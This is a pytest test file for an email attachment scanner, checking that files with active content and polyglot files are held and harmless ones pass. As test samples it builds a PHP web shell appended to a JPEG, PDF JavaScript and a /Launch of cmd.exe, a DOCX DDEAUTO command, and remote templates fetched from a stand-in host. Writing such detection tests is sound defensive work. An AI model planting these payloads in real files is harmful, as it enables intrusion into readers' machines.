"""Files that would act when they are opened hold their letter; harmless ones of the same kinds do not."""

import time
import zlib

import pytest

from ingest import dangers as module
from ingest.active_content import active_content
from ingest.dangers import dangers
from ingest.letter import Part
from ingest.openers.sniff import Form, form_of
from ingest.polyglots import second_kind
from ingest.read import read
from ingest.reading import Verdict
from ingest.runnable import is_program
from tests.attacks.documents import KINDS
from tests.ingest.openers.word_files import docx, zipped
from tests.mail.making.mime import Multipart, attachment, letter, plain
from tests.mail.making.pdf import text_pdf
from tests.review.office import a_picture
from tinbai.limits import Limits

LIMITS = Limits()
ODT = b"application/vnd.oasis.opendocument.text"
PACKAGE = bytes.fromhex("0c00030000000000c000000000000046")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELS = "word/_rels/settings.xml.rels"


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def packed(text: bytes) -> bytes:
    return b"9 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\r\n" + zlib.compress(text) + b"\r\nendstream endobj"


def odt(**files: str) -> bytes:
    entries = {"mimetype": ODT, "content.xml": b"<office:document-content/>"}
    return zipped(entries | {name.replace("__", "/"): text.encode() for name, text in files.items()})


def relation(kind: str, target: str) -> bytes:
    one = f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>".encode()


BODY = "<w:p><w:r><w:t>Tin</w:t></w:r></w:p>"
JPEG = a_picture(size=(40, 30))
ZIP = zipped({"a.txt": b"x"})
ACTIVE = {
    "pdf: JavaScript": pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj"),
    "pdf: a name spelled with numbers": pdf(b"1 0 obj<</S/J#61v#61Script>>endobj"),
    "pdf: within compressed objects": pdf(packed(b"1 0 <</S /JavaScript /JS (x)>>")),
    "pdf: starts a program": pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
    "pdf: another file in it": pdf(b"1 0 obj<</EF<</F 2 0 R>>>>endobj 2 0 obj<</Type/EmbeddedFile>>endobj"),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
    "svg: handler": b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
    "html": b"<!doctype html><p>x</p><script>x()</script>",
    "html: hidden address": b"<!doctype html><a href='java&#115;cript:x()'>x</a>",
    "html: form": b"<!doctype html><form action=https://lua.example/><input name=mk></form>",
    "docx: ActiveX": docx(BODY, files={"word/activeX/activeX1.xml": b"<x/>"}),
    "docx: template from elsewhere": docx(BODY, files={RELS: relation("attachedTemplate", "https://lua.example/a.dotm")}),
    "docx: file in it": docx(BODY, files={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + PACKAGE}),
    "docx: DDE": docx("<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r></w:p>"),
    "odt: macro": odt(Basic__Standard__Module1="<script:module/>"),
    "odt: event": odt(**{"content.xml": '<a href="vnd.sun.star.script:x"/>'}),
    "rtf: object that updates itself": b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}}}",
    "rtf: file in it": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000080000005061636b61676500}}}",
    "rtf: template from elsewhere": b"{\\rtf1{\\*\\template https://lua.example/a}}",
    "doc: file in it": OLE + "WordDocument".encode("utf-16-le") + PACKAGE,
}  # fmt: skip
HARMLESS = {
    "pdf": text_pdf(["Tin cua thon"]),
    "pdf: a stream that looks like a name": pdf(b"1 0 obj<<>>stream\n/JS (x) /Launch \nendstream endobj"),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "html": b"<!doctype html><p style='color:red'>Tin: <a href='https://songmau.example'>xem</a></p>",
    "docx": docx(BODY),
    "docx: template on the office's own disk": docx(
        BODY, files={RELS: relation("attachedTemplate", "file:///C:/Mau/cong-van.dotm")}
    ),
    "docx: a link": docx(BODY, links={"r9": "https://songmau.example"}),
    "docx: a table of Excel in it": docx(BODY, files={"word/embeddings/Sheet1.xlsx": zipped({"a": b"x"})}),
    **{kind.ending: kind.file(["Tin của thôn", "Nội dung"]) for kind in KINDS.values()},
}  # fmt: skip
TWO_KINDS = {
    "jpg + zip": JPEG + ZIP,
    "pdf + zip": text_pdf(["Tin"]) + ZIP,
    "gif as a script": b"GIF89a/*" + b"\0" * 50 + b"*/=1;x()",
    "jpg + php": JPEG + b"<?php system($_GET[0]); ?>",
    "jpg + page": JPEG + b"<html><script>x()</script>",
    "jpg with a page in its comment": JPEG[:2] + b"\xff\xfe\x00\x20<script>x()</script>          " + JPEG[2:],
    "gif + pdf": b"GIF89a" + b"\0" * 40 + b"%PDF-1.4\n",
    "jpg + rar": JPEG + b"Rar!\x1a\x07\x01\x00",
    "html + zip": b"<!doctype html><p>x</p>" + ZIP,
}
ONE_KIND = {
    "jpg": JPEG,
    "jpg with a film behind it": JPEG + b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 40,
    "zip": ZIP,
    "docx": docx(BODY),
    "pdf with junk before it": b"\r\n\0\0\0" + text_pdf(["Tin"]),
    "doc with a zip inside": OLE + "WordDocument".encode("utf-16-le") + ZIP + b"\0" * 512,
    "text about pdf": b"Tep bat dau bang %PDF-1.4",
}  # fmt: skip


def part(content: bytes, name: str = "tep") -> Part:
    return Part(filename=name, media_type="application/octet-stream", content=content)


@pytest.mark.parametrize("name", ACTIVE)
def test_what_acts_is_found(name: str) -> None:
    assert active_content(part(ACTIVE[name]), LIMITS) is not None


@pytest.mark.parametrize("name", HARMLESS)
def test_what_does_not_act_is_left_alone(name: str) -> None:
    assert active_content(part(HARMLESS[name]), LIMITS) is None
    assert second_kind(part(HARMLESS[name])) is None


@pytest.mark.parametrize("name", TWO_KINDS)
def test_a_file_of_two_kinds_is_found(name: str) -> None:
    assert second_kind(part(TWO_KINDS[name])) is not None


@pytest.mark.parametrize("name", ONE_KIND)
def test_a_file_of_one_kind_is_left_alone(name: str) -> None:
    assert second_kind(part(ONE_KIND[name])) is None


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("anh.jpg.exe", b"x"), ("bao cao.pdf .scr", b"x"), ("a.exe.", b"x"), ("a.bat::$DATA", b"x"),
        ("a.iqy", b"x"), ("a.one", b"x"), ("anh.jpg", b"MZ\x90"), ("anh.jpg", b"#!/bin/sh\n"),
        ("a.bin", b"\0" * 0x8001 + b"CD001"), ("a.txt", b"[InternetShortcut]\nURL=x"), ("a.library-ms", b"x"),
    ],
)  # fmt: skip
def test_programs_are_told_by_their_names_and_their_bytes(name: str, content: bytes) -> None:
    assert is_program(part(content, name))
    assert not is_program(part(b"Tin", "tin.txt"))


def raw_with(name: str, content: bytes) -> bytes:
    headers = [("From", "hnd@songmau.example"), ("Subject", "Tin bai"), ("Message-ID", "<1@songmau.example>")]
    text = plain("Tập huấn trồng nấm rơm\r\n\r\nSáng 15/10, xã An Mẫu mở lớp tập huấn cho 45 hội viên nông dân.")
    parts = [text, attachment(name, "application/octet-stream", content)]
    return letter(headers, Multipart(subtype="mixed", boundary="phan", parts=parts))


@pytest.mark.parametrize("content", [ACTIVE["pdf: JavaScript"], ACTIVE["docx: DDE"], TWO_KINDS["jpg + zip"]])
def test_such_a_file_holds_its_letter_even_within_an_archive(content: bytes) -> None:
    for name, sent in (("tep", content), ("tep.zip", zipped({"tep": content}))):
        reading = read(raw_with(name, sent), site=None, limits=LIMITS)
        assert reading.verdict is Verdict.HELD
        assert reading.reason is not None
        assert "Có nguy hiểm" in reading.reason


def test_without_the_look_into_files_the_letter_would_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "active_content", lambda _part, _limits: None)
    assert read(raw_with("a.pdf", ACTIVE["pdf: JavaScript"]), site=None, limits=LIMITS).verdict is Verdict.ARTICLES


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n" + b"stream\n" * 300_000,
        b"%PDF-1.4\n" + b"stream\nendstream " * 100_000,
        b"<!doctype html>" + b"<" * 2_000_000,
        b"<!doctype html>" + b"<a " * 600_000,
        b"<!doctype html>" + b"j " * 900_000,
        b"{\\rtf1" + b"50 61 " * 400_000,
        b"\xff\xd8\xff" + b"PK\x05\x06" * 500_000,
        docx(BODY, files={RELS: b"<Relationship " * 100_000}),
        docx("<w:instrText> DD" + " DDE" * 1 + "x" * 1_000_000 + "</w:instrText>"),
    ],
)
def test_hostile_files_cost_seconds_at_most(content: bytes) -> None:
    began = time.process_time()
    list(dangers([part(content)], LIMITS))
    assert time.process_time() - began < 3


def test_the_forms_of_the_examples_are_what_their_names_say() -> None:
    assert form_of(ACTIVE["odt: macro"]) is Form.ODT
    assert form_of(ACTIVE["docx: DDE"]) is Form.DOCX
    assert form_of(ACTIVE["doc: file in it"]) is Form.DOC
